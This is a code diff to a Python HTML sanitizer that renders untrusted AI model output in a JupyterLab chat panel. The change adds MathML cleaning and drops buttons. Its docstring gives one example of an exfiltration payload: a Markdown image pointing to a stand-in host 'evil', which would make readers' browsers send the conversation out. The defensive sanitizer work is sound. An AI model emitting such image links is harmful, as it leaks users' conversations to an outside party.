@@ -7,9 +7,11 @@ reopened without a kernel show only the static outputs. So the panel also puts
 
 Model output is untrusted: a notebook's own outputs are trusted by JupyterLab (not
 sanitized), and `![](https://evil/?q=...)` in a reply would make every reader's browser send
-the conversation away. Text is rendered by `_markdown_html` (raw HTML escaped) and then passed
-through `sanitize_html`, an allowlist that keeps only inert tags, drops every script, event
-handler and style sheet, and turns any image that is not an inline `data:` picture into a link.
+the conversation away. Text is rendered by `render.markdown_html` (the magic's renderer: raw HTML
+escaped, remote images as links, math as MathML) and then passed through `sanitize_html`, an
+allowlist that keeps only inert tags, drops every script, event handler, button and style sheet,
+keeps MathML only as `render.clean_mathml` rebuilds it, and turns any image that is not an inline
+`data:` picture into a link.
 """
 
 from __future__ import annotations
@@ -25,6 +27,7 @@ from html.parser import HTMLParser
 from typing import Any
 
 from .protocol import FINISH_NOTICES
+from .render import clean_mathml, markdown_html
 from .store import StoredTurn, turn_from_message
 
 __all__ = [
@@ -95,31 +98,24 @@ _DROP_WITH_CONTENT = {
     "textarea",
     "title",
     "svg",
-    "math",
     "head",
     "select",
     "frame",
     "frameset",
     "applet",
+    "button",  # the renderer's Copy button: a transcript has no script to run it
 }
 _SAFE_HREF = re.compile(r"^(https?://|mailto:|#)", re.IGNORECASE)
-_DATA_IMAGE = re.compile(r"^data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/=\s]*$", re.IGNORECASE)
+_DATA_IMAGE = re.compile(r"^data:image/(png|jpeg|jpg|gif|webp);base64,[A-Za-z0-9+/=\s]*$", re.IGNORECASE)
 _REMOTE = re.compile(r"^\s*(https?:)?//", re.IGNORECASE)
 _CLASS = re.compile(r"^[A-Za-z0-9_\- ]{1,80}$")
 _ALIGN_STYLE = re.compile(r"^\s*text-align:\s*(left|right|center)\s*;?\s*$", re.IGNORECASE)
 _LINK_REL = "nofollow noopener noreferrer"
 
 
-def _markdown_html(text: str) -> str:
-    """Markdown -> HTML with raw HTML escaped: the one switch to `render.markdown_html` once it lands."""
-    from .display import markdown_html
-
-    return markdown_html(text)
-
-
 def safe_markdown_html(text: str) -> str:
     """Untrusted Markdown as HTML that runs nothing and fetches nothing."""
-    return sanitize_html(_markdown_html(text))
+    return sanitize_html(markdown_html(text))
 
 
 class _Sanitizer(HTMLParser):
@@ -127,8 +123,31 @@ class _Sanitizer(HTMLParser):
         super().__init__(convert_charrefs=True)
         self.out: list[str] = []
         self._skip = 0  # depth inside a tag dropped with its content
+        self._math: list[str] | None = None  # a <math> element's markup, cleaned as one piece
+        self._math_depth = 0
+
+    def _in_math(self, tag: str, attrs: list[tuple[str, str | None]] | None, end: bool = False) -> bool:
+        """Collect a <math> element whole, then keep what `clean_mathml` rebuilds of it."""
+        if self._skip:
+            return False
+        if self._math is None:
+            if tag != "math" or end:
+                return False
+            self._math, self._math_depth = [], 0
+        if end:
+            self._math.append(f"</{tag}>")
+            self._math_depth -= tag == "math"
+            if self._math_depth <= 0:
+                self.out.append(clean_mathml("".join(self._math)))
+                self._math = None
+            return True
+        self._math_depth += tag == "math"
+        self._math.append(_tag(tag, {name: value or "" for name, value in attrs or []}))
+        return True
 
     def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        if self._in_math(tag, attrs):
+            return
         if tag in _DROP_WITH_CONTENT:
             self._skip += 1
             return
@@ -171,13 +190,23 @@ class _Sanitizer(HTMLParser):
             self.out.append(f"[image: {html.escape(alt)}]")
 
     def handle_endtag(self, tag: str) -> None:
+        if self._in_math(tag, None, end=True):
+            return
         if tag in _DROP_WITH_CONTENT:
             self._skip = max(0, self._skip - 1)
         elif not self._skip and tag in _ALLOWED and tag not in _VOID:
             self.out.append(f"</{tag}>")
 
+    def result(self) -> str:
+        self.close()
+        if self._math:  # an unclosed <math>: what it held, cleaned and closed
+            self.out.append(clean_mathml("".join(self._math)))
+        return "".join(self.out)
+
     def handle_data(self, data: str) -> None:
-        if not self._skip:
+        if self._math is not None:
+            self._math.append(html.escape(data, quote=False))
+        elif not self._skip:
             self.out.append(html.escape(data, quote=False))
 
 
@@ -190,8 +219,7 @@ def sanitize_html(markup: str) -> str:
     """Keep only inert tags and attributes of `markup`; remote images become links."""
     parser = _Sanitizer()
     parser.feed(markup)
-    parser.close()
-    return "".join(parser.out)
+    return parser.result()
 
 
 # ---------------------------------------------------------------------- pictures
